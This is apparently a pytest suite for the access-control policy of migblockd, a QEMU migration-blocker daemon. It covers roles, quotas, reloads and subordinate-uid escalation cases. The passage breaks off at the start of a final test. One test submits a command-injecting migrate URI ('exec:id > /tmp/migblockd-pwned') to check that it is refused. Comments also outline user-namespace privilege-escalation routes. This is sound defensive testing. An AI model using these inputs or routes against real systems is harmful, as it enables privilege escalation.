"""Access control with real uids: the daemon runs as root, clients under ``setpriv``.

Each client is a separate process with its own uid and gid (and no
supplementary groups unless a test gives them), so the daemon's ``SO_PEERCRED``
and the host's group database decide, as in production.  The policy comes from
a real TOML file, changed and re-read with a real SIGHUP.
"""

from __future__ import annotations

import json
import pwd
import re
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import ROOT, DaemonProcess, assert_clean_log
from otheruids import (
    NAMELESS_GID,
    NAMELESS_UID,
    NAMELESS_UID2,
    OLGA_SUBGIDS,
    OLGA_SUBUIDS,
    OVERLAPPED,
    OVERLAPPED_UID,
    Account,
    UidClient,
)
from realqemu import Qemu

from migblockd.logs.throttle import BURST

ClientFactory = Callable[..., UidClient]

POLICY = f"""\
[access]
default-role = "client"
users = {{ mbt-dave = "admin", mbt-olga = "observer", {NAMELESS_UID2} = "operator" }}
groups = {{ mbt-admins = "admin", mbt-operators = "operator" }}
"""


@pytest.fixture
def sockdir(short_tmp: Path) -> Path:
    short_tmp.chmod(0o755)  # every test uid must reach the socket
    return short_tmp


@pytest.fixture
def serve(start_daemon: Callable[..., DaemonProcess],
          sockdir: Path) -> Callable[..., DaemonProcess]:
    """Start the daemon with a config file (``config``'s text) and a 0666 socket."""
    def start(config: str = POLICY, *args: str) -> DaemonProcess:
        path = sockdir / "migblockd.toml"
        path.write_text(config)
        return start_daemon("--socket-mode", "0666", "--config", str(path), *args,
                            socket=sockdir / "s.sock")
    return start


@pytest.fixture
def connect(uid_client_script: Path) -> Iterator[ClientFactory]:
    """``connect(daemon, account_or_uid, gid=None, groups=())``: a negotiated client as that uid."""
    clients: list[UidClient] = []

    def make(daemon: DaemonProcess, who: Account | int, gid: int | None = None,
             groups: tuple[int, ...] = (), **kw: Any) -> UidClient:
        uid = who if isinstance(who, int) else who.uid
        if gid is None:
            gid = NAMELESS_GID if isinstance(who, int) else who.gid
        client = UidClient(uid_client_script, daemon.socket, uid, gid, groups, **kw)
        clients.append(client)
        return client

    yield make
    for client in clients:
        client.close()


def reload(daemon: DaemonProcess, config: str) -> None:
    """Rewrite the config file, SIGHUP, and wait until the daemon says it reloaded."""
    path = daemon.socket.parent / "migblockd.toml"
    path.write_text(config)
    before = daemon.log().count("reloaded configuration")
    daemon.signal(signal.SIGHUP)
    daemon.wait_for_log(re.compile(f"(?:.*reloaded configuration.*\n){{{before + 1}}}", re.S))


def ids(root: UidClient) -> list[str]:
    return [b["id"] for b in root.ok("query-blockers")]


def test_a_client_cannot_delete_another_uids_blocker_but_its_owner_can(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    daemon = serve()
    alice, bob = accounts["mbt-alice"], accounts["mbt-bob"]
    root = connect(daemon, 0, 0)
    a, b = connect(daemon, alice), connect(daemon, bob)
    root.ok("add-blocker", {"reason": "root's", "id": "root-b", "modes": ["normal"]})
    a.ok("add-blocker", {"reason": "alice's", "id": "alice-b"})

    assert b.error("del-blocker", {"id": "alice-b"}) == (
        f"Permission denied: del-blocker of blocker 'alice-b', which belongs to uid "
        f"{alice.uid} (mbt-alice), needs role admin, but uid {bob.uid} (mbt-bob) has role client")
    assert b.error("del-blocker", {"id": "root-b"}).startswith(
        "Permission denied: del-blocker of blocker 'root-b', which belongs to uid 0 (root),")
    daemon.wait_for_log(f"(pid {b.pid}, uid {bob.uid}, gid {bob.gid}): refused del-blocker: "
                        "Permission denied")
    # Nothing changed, and nobody heard of a deletion.
    assert ids(root) == ["root-b", "alice-b"]
    assert not [e for e in root.events + a.events if e["event"] == "BLOCKER_DELETED"]

    # The issue's attack: switch the mode to one root's blocker does not block, then migrate.
    assert b.error("migrate-set-parameters", {"mode": "cpr-reboot"}) == (
        f"Permission denied: migrate-set-parameters needs role operator, but uid {bob.uid} "
        "(mbt-bob) has role client")
    assert b.error("migrate", {"uri": "tcp:h:1"}).startswith(
        "Permission denied: migrate needs role operator")
    assert root.ok("query-migrate-parameters")["mode"] == "normal"
    assert root.ok("query-migrate") == {"blocked-reasons": ["root's", "alice's"]}

    # An id another uid holds is named as theirs: an agent re-adding its blocker
    # after a reconnection can tell its own from one taken first by someone else.
    assert b.error("add-blocker", {"reason": "bob's", "id": "alice-b"}) == (
        f"Duplicate blocker ID 'alice-b', which belongs to uid {alice.uid} (mbt-alice)")
    assert connect(daemon, alice).error("add-blocker", {"reason": "again", "id": "alice-b"}) == (
        "Duplicate blocker ID 'alice-b'")
    daemon.wait_for_log(f"(pid {b.pid}, uid {bob.uid}, gid {bob.gid}): refused blocker "
                        "'alice-b': \"Duplicate blocker ID 'alice-b', which belongs to uid")

    a.ok("del-blocker", {"id": "alice-b"})  # its owner may
    assert ids(root) == ["root-b"]
    assert_clean_log(daemon)


def test_a_gating_daemon_names_the_holder_of_another_uids_id_too(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account], qemu: Qemu) -> None:
    # The gate judged add-blocker before asking QEMU and answered the plain duplicate,
    # which tells an agent re-adding after a reconnection that the id is its own.
    daemon = serve(POLICY, "--qemu", str(qemu.gate_socket))
    daemon.wait_for_log("connected to QEMU 7.")
    alice, bob = accounts["mbt-alice"], accounts["mbt-bob"]
    a, b = connect(daemon, alice), connect(daemon, bob)
    a.ok("add-blocker", {"reason": "alice's", "id": "disk0"})
    assert b.error("add-blocker", {"reason": "bob's", "id": "disk0"}) == (
        f"Duplicate blocker ID 'disk0', which belongs to uid {alice.uid} (mbt-alice)")
    assert a.error("add-blocker", {"reason": "again", "id": "disk0"}) == (
        "Duplicate blocker ID 'disk0'")
    daemon.wait_for_log(f"(pid {b.pid}, uid {bob.uid}, gid {bob.gid}): refused blocker "
                        "'disk0': \"Duplicate blocker ID 'disk0', which belongs to uid")
    assert_clean_log(daemon)


def test_an_admin_by_user_name_by_group_database_or_by_gid_deletes_anyones_blocker(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    daemon = serve()
    alice = connect(daemon, accounts["mbt-alice"])
    for n in range(4):
        alice.ok("add-blocker", {"reason": "r", "id": f"a{n}"})
    # By user name (users table).
    connect(daemon, accounts["mbt-dave"]).ok("del-blocker", {"id": "a0"})
    # By a supplementary group that only the group database gives (--clear-groups).
    connect(daemon, accounts["mbt-carol"]).ok("del-blocker", {"id": "a1"})
    # By the gid the kernel reports for the connection, for a uid no database names.
    admins = accounts["mbt-admins"].gid
    connect(daemon, NAMELESS_UID, admins).ok("del-blocker", {"id": "a2"})
    # The same uid with another gid is a client only.
    assert connect(daemon, NAMELESS_UID).error("del-blocker", {"id": "a3"}).endswith(
        f"uid {NAMELESS_UID} has role client")
    assert ids(alice) == ["a3"]


def test_an_admins_delete_of_another_uids_blocker_is_logged_with_whose_it_was(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # Found in review: at 3 a.m. the log said "deleted blocker backup0" and who deleted it,
    # not whose it was: the line that said so was from before a restart, or rotated.
    daemon = serve()
    alice, dave = accounts["mbt-alice"], accounts["mbt-dave"]
    a = connect(daemon, alice)
    a.ok("add-blocker", {"reason": "r", "id": "backup0"})
    a.ok("add-blocker", {"reason": "r", "id": "backup1"})
    d = connect(daemon, dave)
    d.ok("del-blocker", {"id": "backup0"})
    daemon.wait_for_log(f"(pid {d.pid}, uid {dave.uid}, gid {dave.gid}): deleted blocker "
                        f"backup0, which belonged to uid {alice.uid} (mbt-alice)\n")
    nameless = connect(daemon, NAMELESS_UID)
    nameless.ok("add-blocker", {"reason": "r", "id": "container0"})
    d.ok("del-blocker", {"id": "container0"})
    daemon.wait_for_log(f"deleted blocker container0, which belonged to uid {NAMELESS_UID}\n")
    # Its owner's own delete says nothing more.
    a.ok("del-blocker", {"id": "backup1"})
    daemon.wait_for_log(f"(pid {a.pid}, uid {alice.uid}, gid {alice.gid}): deleted blocker "
                        "backup1\n")
    assert_clean_log(daemon)


def test_an_observer_can_query_but_cannot_add_delete_or_migrate(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    daemon = serve()
    olga = accounts["mbt-olga"]
    connect(daemon, accounts["mbt-alice"]).ok("add-blocker", {"reason": "r", "id": "x"})
    o = connect(daemon, olga)
    assert [b["id"] for b in o.ok("query-blockers")] == ["x"]
    assert o.ok("query-migrate") == {"blocked-reasons": ["r"]}
    assert o.ok("query-version")["package"].startswith("migblockd ")
    assert o.ok("query-qmp-schema")
    denied = f"but uid {olga.uid} (mbt-olga) has role observer"
    for command, args, needs in [
            ("add-blocker", {"reason": "mine"}, "client"),
            ("del-blocker", {"id": "x"}, "client"),
            ("migrate", {"uri": "tcp:h:1"}, "operator"),
            ("migrate_cancel", None, "operator"),
            ("migrate-set-capabilities",
             {"capabilities": [{"capability": "events", "state": True}]}, "operator")]:
        assert o.error(command, args) == (
            f"Permission denied: {command} needs role {needs}, {denied}")
    assert [b["id"] for b in o.ok("query-blockers")] == ["x"]
    assert o.ok("query-migrate-capabilities") == [{"capability": "events", "state": False}]


def test_a_subordinate_uid_gets_no_more_than_the_user_it_belongs_to(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # Found by review: mbt-olga, an observer, setuid() to one of her subordinate
    # uids in a user namespace (newuidmap) and had default-role client there.
    # setpriv gives the daemon the same SO_PEERCRED without the namespace.
    daemon = serve()
    sub = OLGA_SUBUIDS[7]
    assert connect(daemon, sub, sub).error("add-blocker", {"reason": "r"}) == (
        f"Permission denied: add-blocker needs role client, but uid {sub} has role observer")
    # A uid outside her range still gets default-role; an admin's subordinate
    # uids, no more than default-role either (below).
    outside = OLGA_SUBUIDS[-1] + 1
    connect(daemon, outside, outside).ok("add-blocker", {"reason": "r", "id": "outside"})
    reload(daemon, POLICY.replace('mbt-olga = "observer"', 'mbt-olga = "admin"'))
    assert connect(daemon, sub, sub).error("migrate", {"uri": "tcp:h:1"}) == (
        f"Permission denied: migrate needs role operator, but uid {sub} has role client")


def test_an_account_in_a_users_subordinate_range_is_named_by_the_policys_warning(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # Found by review: mbt-sam's uid lies in mbt-olga's /etc/subuid range, so she can
    # become mbt-sam in a user namespace of her own (newuidmap) and the kernel reports
    # his uid: the policy's role for mbt-sam was hers too, and nothing said so.
    # setpriv gives the daemon the same SO_PEERCRED without the namespace.
    sam, olga = accounts[OVERLAPPED], accounts["mbt-olga"]  # olga: observer
    assert sam.uid == OVERLAPPED_UID in OLGA_SUBUIDS
    daemon = serve(POLICY.replace("users = {", f'users = {{ {OVERLAPPED} = "operator", '))
    daemon.wait_for_log(
        f"{daemon.socket.parent}/migblockd.toml:3: access: the policy gives user "
        f"'{OVERLAPPED}' role operator, but uid {sam.uid} ({OVERLAPPED}) is also a "
        f"subordinate uid of uid {olga.uid} (mbt-olga) in /etc/subuid, who can become it "
        f"in a user namespace of their own: the daemon cannot tell them apart, so "
        f"mbt-olga has that role too, and what {OVERLAPPED} holds counts against "
        f"mbt-olga's per-uid limits; give {OVERLAPPED} a uid outside every range there, or "
        f"take it out of mbt-olga's (usermod --del-subuids {sam.uid}-{sam.uid} mbt-olga)\n")
    # As the warning says: the uid has the entry's role, whoever runs as it.
    connect(daemon, sam).ok("migrate-set-parameters", {"mode": "normal"})
    assert connect(daemon, olga).error("migrate-set-parameters", {"mode": "normal"}) == (
        f"Permission denied: migrate-set-parameters needs role operator, but uid "
        f"{olga.uid} (mbt-olga) has role observer")
    # Not named, the account gets no more than her: what any process of that uid gets.
    reload(daemon, POLICY)
    assert connect(daemon, sam).error("add-blocker", {"reason": "r"}) == (
        f"Permission denied: add-blocker needs role client, but uid {sam.uid} "
        f"({OVERLAPPED}) has role observer")
    assert daemon.log().count("is also a subordinate uid of") == 1  # not again at the reload
    assert_clean_log(daemon)


def test_a_gid_of_a_users_subordinate_range_gives_no_more_than_that_user_gets(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # Found by review: the gid the kernel reports can be any of the user's
    # /etc/subgid range (newgidmap), and a groups entry for such a gid gave its
    # role.  setpriv gives the daemon the same SO_PEERCRED without the namespace.
    gid = OLGA_SUBGIDS[5]
    policy = POLICY.replace('mbt-olga = "observer", ', "")  # she has default-role
    daemon = serve(policy.replace("groups = {", f"groups = {{ {gid} = \"admin\", "))
    olga = accounts["mbt-olga"]
    assert connect(daemon, olga, gid).error("migrate", {"uri": "tcp:h:1"}) == (
        f"Permission denied: migrate needs role operator, but uid {olga.uid} (mbt-olga) "
        "has role client")
    # Outside every range, the reported gid's entry gives its role.
    outside = OLGA_SUBGIDS[-1] + 1
    reload(daemon, POLICY.replace("groups = {", f"groups = {{ {outside} = \"operator\", "))
    connect(daemon, NAMELESS_UID, outside).ok("migrate-set-parameters", {"mode": "normal"})


def test_a_users_subordinate_uids_share_its_per_uid_limits(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # Found by review: each subordinate uid had limits of its own, so one user
    # held 65,536 times max-blockers-per-uid (up to max-blockers, which then
    # refused even root) and as many times max-clients-per-uid.
    config = ("max-blockers-per-uid = 2\nmax-clients-per-uid = 3\n"
              + POLICY.replace('mbt-olga = "observer"', 'mbt-olga = "client"'))
    daemon = serve(config)
    olga, bob = accounts["mbt-olga"], accounts["mbt-bob"]
    first, second, third = OLGA_SUBUIDS[1], OLGA_SUBUIDS[2], OLGA_SUBUIDS[3]
    connect(daemon, first, first).ok("add-blocker", {"reason": "r", "id": "a"})
    connect(daemon, second, second).ok("add-blocker", {"reason": "r", "id": "b"})
    hers = f"uid {olga.uid} (mbt-olga) and its subordinate uids"
    own = connect(daemon, olga)  # her third connection, theirs together
    assert own.error("add-blocker", {"reason": "r"}) == (
        f"Too many migration blockers for {hers}: they own 2, max-blockers-per-uid is 2")
    refused = connect(daemon, third, third, negotiate=False)
    assert refused.greeting == {"error": {"class": "GenericError", "desc": (
        f"migblockd is already serving max-clients-per-uid=3 clients of {hers}; "
        "try again later")}}
    connect(daemon, bob).ok("add-blocker", {"reason": "r", "id": "bob"})  # his own count
    # A deletion (here an admin's) frees the count for all of them.
    connect(daemon, 0, 0).ok("del-blocker", {"id": "a"})
    own.ok("add-blocker", {"reason": "r", "id": "hers"})


def test_an_admins_own_connections_and_blockers_use_up_no_subordinate_uids_limits(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # Found by review: an admin is exempt from the per-uid limits, but what it held
    # still filled the count its subordinate uids are judged by (root's subordinate
    # uids are every rootful container's): they were refused while owning nothing.
    config = ("max-blockers-per-uid = 2\nmax-clients-per-uid = 2\n"
              + POLICY.replace('mbt-olga = "observer"', 'mbt-olga = "admin"'))
    daemon = serve(config)
    olga = accounts["mbt-olga"]
    first, second, third = OLGA_SUBUIDS[1], OLGA_SUBUIDS[2], OLGA_SUBUIDS[3]
    admin = [connect(daemon, olga) for _ in range(3)]  # past the bound: exempt
    for n in range(3):
        admin[n].ok("add-blocker", {"reason": "r", "id": f"olga{n}"})
    a, b = connect(daemon, first, first), connect(daemon, second, second)
    a.ok("add-blocker", {"reason": "r", "id": "a"})
    b.ok("add-blocker", {"reason": "r", "id": "b"})
    # Only their own count: two connections and two blockers.
    assert a.error("add-blocker", {"reason": "r"}) == (
        f"Too many migration blockers for uid {olga.uid} (mbt-olga) and its subordinate "
        "uids: they own 2, max-blockers-per-uid is 2")
    refused = connect(daemon, third, third, negotiate=False)
    assert refused.greeting == {"error": {"class": "GenericError", "desc": (
        f"migblockd is already serving max-clients-per-uid=2 clients of uid {olga.uid} "
        "(mbt-olga) and its subordinate uids; try again later")}}
    # The admin's connections going frees none of theirs; one of theirs going does.
    for client in admin:
        client.close()
        daemon.wait_for_log(f"(pid {client.pid}, uid {olga.uid}, gid {olga.gid}) disconnected")
    assert "error" in connect(daemon, third, third, negotiate=False).greeting
    b.ok("del-blocker", {"id": "b"})
    b.close()
    daemon.wait_for_log(f"(pid {b.pid}, uid {second}, gid {second}) disconnected")
    connect(daemon, third, third).ok("add-blocker", {"reason": "r", "id": "c"})


def test_an_admin_demoted_by_a_reload_counts_against_the_per_uid_bound_again(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # Found by review: whether a connection counted was decided at admission, so an
    # admin's three connections, demoted by a reload, let that user open two more
    # past max-clients-per-uid=2 (and a promoted one's kept filling the bound).
    config = "max-clients-per-uid = 2\n" + POLICY
    daemon = serve(config.replace('mbt-olga = "observer"', 'mbt-olga = "admin"'))
    olga = accounts["mbt-olga"]
    held = [connect(daemon, olga) for _ in range(3)]
    reload(daemon, config.replace('mbt-olga = "observer"', 'mbt-olga = "client"'))
    refused = connect(daemon, olga, negotiate=False)
    assert refused.greeting == {"error": {"class": "GenericError", "desc": (
        f"migblockd is serving 3 clients of uid {olga.uid} (mbt-olga), "
        "max-clients-per-uid=2; try again later")}}
    # Promoted again: none of hers counts.
    reload(daemon, config.replace('mbt-olga = "observer"', 'mbt-olga = "admin"'))
    more = connect(daemon, olga)
    reload(daemon, config.replace('mbt-olga = "observer"', 'mbt-olga = "client"'))
    for client in [*held, more]:
        client.close()
        daemon.wait_for_log(f"(pid {client.pid}, uid {olga.uid}, gid {olga.gid}) disconnected")
    # All four gone, the count is back to nothing: two connections, then a refusal.
    first, second = connect(daemon, olga), connect(daemon, olga)
    assert "error" in connect(daemon, olga, negotiate=False).greeting
    first.ok("query-version")
    second.ok("query-version")


def test_an_admin_subordinate_uids_blockers_use_up_no_limit_of_its_owner(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # Found by review: a subordinate uid made admin (by number) is exempt, but what
    # it held still counted against its owner and the other subordinate uids.
    admin_sub = OLGA_SUBUIDS[0]
    config = "max-blockers-per-uid = 2\n" + POLICY.replace(
        'mbt-olga = "observer"', f'mbt-olga = "client", {admin_sub} = "admin"')
    daemon = serve(config)
    olga = accounts["mbt-olga"]
    admin = connect(daemon, admin_sub, admin_sub)
    for n in range(3):
        admin.ok("add-blocker", {"reason": "r", "id": f"sub{n}"})
    connect(daemon, olga).ok("add-blocker", {"reason": "r", "id": "hers"})
    other = connect(daemon, OLGA_SUBUIDS[1], OLGA_SUBUIDS[1])
    other.ok("add-blocker", {"reason": "r", "id": "theirs"})
    assert other.error("add-blocker", {"reason": "r"}) == (
        f"Too many migration blockers for uid {olga.uid} (mbt-olga) and its subordinate "
        "uids: they own 2, max-blockers-per-uid is 2")


def test_the_start_logs_the_policy_it_serves_with(
        serve: Callable[..., DaemonProcess]) -> None:
    daemon = serve(POLICY.replace('default-role = "client"', 'default-role = "observer"'))
    line = daemon.wait_for_log(re.compile(r"INFO: access: (.*)\n")).group(1)
    assert line == (f"{{default-role = 'observer', users = {{{NAMELESS_UID2} = 'operator', "
                    "mbt-dave = 'admin', mbt-olga = 'observer'}, groups = {mbt-admins = "
                    "'admin', mbt-operators = 'operator'}}")
    assert daemon.log().index("access: ") < daemon.log().index(" ready on ")


def test_default_role_applies_to_uids_the_policy_does_not_name(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    daemon = serve(POLICY.replace('default-role = "client"', 'default-role = "observer"'))
    nameless = connect(daemon, NAMELESS_UID)
    assert nameless.error("add-blocker", {"reason": "r"}) == (
        f"Permission denied: add-blocker needs role client, but uid {NAMELESS_UID} "
        "has role observer")
    assert connect(daemon, accounts["mbt-bob"]).error("add-blocker", {"reason": "r"}).endswith(
        "(mbt-bob) has role observer")
    # A uid named in the policy by number only.
    operator = connect(daemon, NAMELESS_UID2)
    operator.ok("migrate-set-parameters", {"mode": "cpr-reboot"})
    operator.ok("migrate", {"uri": "tcp:h:1"})
    # The daemon's own uid (root here) is admin whatever the default.
    connect(daemon, 0, 0).ok("migrate_cancel")


def test_only_an_operator_may_set_only_migratable_aside_with_an_internal_blocker(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    daemon = serve(POLICY, "--only-migratable")
    alice = accounts["mbt-alice"]  # default-role: client
    a = connect(daemon, alice)
    desc = ("Permission denied: add-blocker with internal: true needs role operator (it is "
            f"exempt from --only-migratable), but uid {alice.uid} (mbt-alice) has role client")
    assert a.error("add-blocker", {"reason": "r", "id": "a1", "internal": True}) == desc
    daemon.wait_for_log(f"uid {alice.uid}, gid {alice.gid}): refused add-blocker of 'a1': {desc}")
    # What --only-migratable leaves a client: blockers of the other modes.
    assert a.error("add-blocker", {"reason": "r", "internal": False}) == (
        "disallowing migration blocker (--only-migratable) for: r")
    a.ok("add-blocker", {"reason": "cpr only", "id": "a2", "modes": ["cpr-reboot"]})
    operator = connect(daemon, NAMELESS_UID2)
    operator.ok("add-blocker", {"reason": "dump in progress", "id": "o1", "internal": True})
    assert a.ok("query-migrate") == {"blocked-reasons": ["dump in progress"]}
    assert ids(connect(daemon, 0, 0)) == ["a2", "o1"]
    assert_clean_log(daemon)


def test_an_operator_may_not_migrate_to_a_command_but_an_admin_may(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # With --qemu, exec:CMD would make QEMU run CMD as its own user: the rule
    # is the same without it, so the simulation shows it.
    daemon = serve(POLICY.replace('mbt-dave = "admin"', 'mbt-dave = "admin", mbt-alice = '
                                  '"operator"'))
    alice = accounts["mbt-alice"]
    a, dave = connect(daemon, alice), connect(daemon, accounts["mbt-dave"])
    desc = ("Permission denied: migrate to an exec: URI needs role admin (QEMU would run the "
            f"command as its own user), but uid {alice.uid} (mbt-alice) has role operator")
    assert a.error("migrate", {"uri": "exec:id > /tmp/migblockd-pwned"}) == desc
    daemon.wait_for_log(f"(pid {a.pid}, uid {alice.uid}, gid {alice.gid}): refused "
                        f"migrate to 'exec:id > /tmp/migblockd-pwned': {desc}")
    assert a.error("migrate", {"uri": "tcp:h:1", "channels": [
        {"channel-type": "main", "addr": {"transport": "exec", "args": ["id"]}}]}) == (
        "Permission denied: migrate with a channel of transport exec needs role admin (QEMU "
        f"would run the command as its own user), but uid {alice.uid} (mbt-alice) has role "
        "operator")
    daemon.wait_for_log("refused migrate to 'tcp:h:1' with channels [{\"channel-type\":\"main\","
                        '"addr":{"transport":"exec","args":["id"]}}]: Permission denied')
    assert a.ok("query-migrate") == {}  # nothing started
    for uri in ("tcp:h:1", "unix:/run/dst.sock"):
        a.ok("migrate", {"uri": uri})
        assert a.ok("query-migrate")["status"] in ("setup", "active")
        a.ok("migrate_cancel")
    dave.ok("migrate", {"uri": "exec:cat > /dev/null"})
    assert dave.ok("query-migrate")["status"] in ("setup", "active")
    assert_clean_log(daemon)


def test_a_reloaded_policy_applies_to_the_next_command_of_an_open_connection(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    daemon = serve()
    alice = accounts["mbt-alice"]
    a = connect(daemon, alice)
    assert a.error("migrate-set-parameters", {"mode": "cpr-reboot"}).endswith("has role client")
    reload(daemon, POLICY.replace('mbt-dave = "admin"', 'mbt-dave = "admin", mbt-alice = '
                                  '"operator"'))
    a.ok("migrate-set-parameters", {"mode": "cpr-reboot"})  # the same connection
    a.ok("add-blocker", {"reason": "r", "id": "x"})
    reload(daemon, POLICY.replace('default-role = "client"', 'default-role = "observer"'))
    assert a.error("del-blocker", {"id": "x"}).endswith(
        f"uid {alice.uid} (mbt-alice) has role observer")
    assert "reloaded configuration: access=" in daemon.log()
    assert_clean_log(daemon)


def test_each_quota_refuses_with_its_message_and_everyone_else_is_still_served(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # The limits are the top-level keys, before [access] (TOML puts keys after a
    # table header inside that table).
    config = "max-blockers = 5\nmax-blockers-per-uid = 2\nmax-reason-length = 16\n" + POLICY
    daemon = serve(config)
    alice, bob = accounts["mbt-alice"], accounts["mbt-bob"]
    a, b, root = connect(daemon, alice), connect(daemon, bob), connect(daemon, 0, 0)

    assert a.error("add-blocker", {"reason": "x" * 17}) == (
        "Parameter 'reason' is too long: 17 characters, max-reason-length is 16")
    a.ok("add-blocker", {"reason": "x" * 16, "id": "a0"})
    a.ok("add-blocker", {"reason": "r", "id": "a1"})
    assert a.error("add-blocker", {"reason": "r", "id": "a2"}) == (
        f"Too many migration blockers for uid {alice.uid} (mbt-alice): it owns 2, "
        "max-blockers-per-uid is 2")
    daemon.wait_for_log(f"(pid {a.pid}, uid {alice.uid}, gid {alice.gid}): refused "
                        "add-blocker of 'a2': Too many migration blockers for")
    b.ok("add-blocker", {"reason": "r", "id": "b0"})  # another uid has its own count
    root.ok("add-blocker", {"reason": "r", "id": "r0"})  # admins: no per-uid limit
    root.ok("add-blocker", {"reason": "r", "id": "r1"})
    total = "Too many migration blockers: 5 registered, max-blockers is 5"
    assert root.error("add-blocker", {"reason": "r"}) == total  # all uids together
    assert b.error("add-blocker", {"reason": "r"}) == total
    assert ids(b) == ["a0", "a1", "b0", "r0", "r1"]  # still served, nothing added

    a.ok("del-blocker", {"id": "a1"})  # a freed slot counts at once
    a.ok("add-blocker", {"reason": "r", "id": "a3"})
    reload(daemon, config.replace("max-blockers = 5", "max-blockers = 6").replace(
        "max-blockers-per-uid = 2", "max-blockers-per-uid = 3"))
    a.ok("add-blocker", {"reason": "r", "id": "a4"})
    assert a.error("add-blocker", {"reason": "r"}) == (
        "Too many migration blockers: 6 registered, max-blockers is 6")
    assert_clean_log(daemon)


def test_the_issues_oversized_reasons_are_refused_by_default(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    daemon = serve("")
    a = connect(daemon, accounts["mbt-alice"])
    for _ in range(5):
        assert a.error("add-blocker", {"reason": "x" * 1_000_000}) == (
            "Parameter 'reason' is too long: 1000000 characters, max-reason-length is 1024")
    a.ok("add-blocker", {"reason": "y" * 1024})
    assert [len(b["reason"]) for b in a.ok("query-blockers")] == [1024]


def test_query_blockers_shows_each_owner_with_its_user_name(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    daemon = serve()
    alice = accounts["mbt-alice"]
    a = connect(daemon, alice)
    a.ok("add-blocker", {"reason": "r", "id": "named"})
    nameless = connect(daemon, NAMELESS_UID)
    nameless.ok("add-blocker", {"reason": "r", "id": "nameless"})
    owners = {b["id"]: b["owner"] for b in a.ok("query-blockers")}
    assert owners == {
        "named": {"pid": a.pid, "uid": alice.uid, "gid": alice.gid, "user": "mbt-alice"},
        "nameless": {"pid": nameless.pid, "uid": NAMELESS_UID, "gid": NAMELESS_GID},
    }


def test_a_reload_that_gives_one_uid_two_roles_keeps_the_running_policy(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    daemon = serve()
    alice = accounts["mbt-alice"]
    a = connect(daemon, alice)
    path = daemon.socket.parent / "migblockd.toml"
    # "0999" = "admin" next to 999 = "observer" used to make the uid an admin without a word.
    path.write_text(f'[access]\nusers = {{ "0{alice.uid}" = "admin", {alice.uid} = "observer" }}\n')
    daemon.signal(signal.SIGHUP)
    # Named with the line of the inline table that holds the entry, not [access]'s.
    daemon.wait_for_log(f"reload failed, keeping the running configuration: {path}:2: access "
                        f"users.{alice.uid} is users.0{alice.uid} again (both are uid "
                        f"{alice.uid}); give it once")
    assert a.error("migrate-set-parameters", {"mode": "cpr-reboot"}).endswith(
        "has role client")
    a.ok("add-blocker", {"reason": "r", "id": "still-a-client"})
    assert_clean_log(daemon)


def test_a_user_named_by_name_and_by_uid_is_warned_of_at_start_and_reload(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # Found in review: 'mbt-alice = "operator"' beside '999 = "client"' (alice's uid) left
    # alice a client without a word, as "0999" beside "999" used to.
    alice = accounts["mbt-alice"]
    twice = f'[access]\nusers = {{ mbt-alice = "operator", {alice.uid} = "client" }}\n'
    warning = (f"access: the policy gives user 'mbt-alice' role operator and its uid "
               f"{alice.uid} role client: the entry by number applies")
    daemon = serve(twice)
    daemon.wait_for_log(warning)
    a = connect(daemon, alice)
    assert a.error("migrate-set-parameters", {"mode": "cpr-reboot"}).endswith(
        f"uid {alice.uid} (mbt-alice) has role client")
    reload(daemon, twice + "\n")
    daemon.wait_for_log(re.compile(f"(?:.*{re.escape(warning)}.*\n){{2}}", re.S))
    # The same role twice says nothing: the policy does what it reads.
    reload(daemon, twice.replace('"client"', '"operator"'))
    assert daemon.log().count("access: the policy gives user 'mbt-alice'") == 2
    a.ok("migrate-set-parameters", {"mode": "cpr-reboot"})
    assert_clean_log(daemon)


#: A uid that gets a name while the daemon runs (the account exists only during the test).
LATECOMER_UID, LATECOMER = 3_999_990, "mbt-latecomer"


def _latecomer() -> str | None:
    try:
        return pwd.getpwuid(LATECOMER_UID).pw_name
    except KeyError:
        return None


def _until(done: Callable[[], bool], argv: list[str]) -> None:
    """Run a useradd/userdel command until ``done()`` (a concurrent run of
    ensure_accounts may hold the databases' lock for a moment)."""
    for _ in range(50):
        if done():
            return
        proc = subprocess.run(argv, capture_output=True, text=True, timeout=30)
        if done():
            return
        time.sleep(0.1)
    raise AssertionError(f"{' '.join(argv)} failed: {proc.stderr}")


def _remove_latecomer() -> None:
    name = _latecomer()
    if name is not None:
        # --force: the test's client still runs as the uid.
        _until(lambda: _latecomer() is None, ["userdel", "--force", name])


def test_after_a_reload_query_blockers_shows_every_blocker_of_a_uid_under_its_new_name(
